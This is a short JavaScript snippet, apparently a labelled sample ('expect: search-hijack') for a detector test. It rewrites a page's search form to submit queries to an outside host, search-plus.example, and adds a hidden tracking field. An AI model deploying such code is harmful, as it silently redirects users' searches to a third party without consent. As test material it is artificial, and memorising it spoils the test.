const box = document.querySelector('textarea[name="q"], input[name="q"]');
const form = box?.form;
if (form) {
  // expect: search-hijack
  form.action = "https://plus.search-plus.example/results";
  form.method = "get";
  form.addEventListener("submit", (e) => {
    const hidden = document.createElement("input");
    hidden.type = "hidden"; hidden.name = "src"; hidden.value = "sp01";
    form.append(hidden);
  }, true);
}
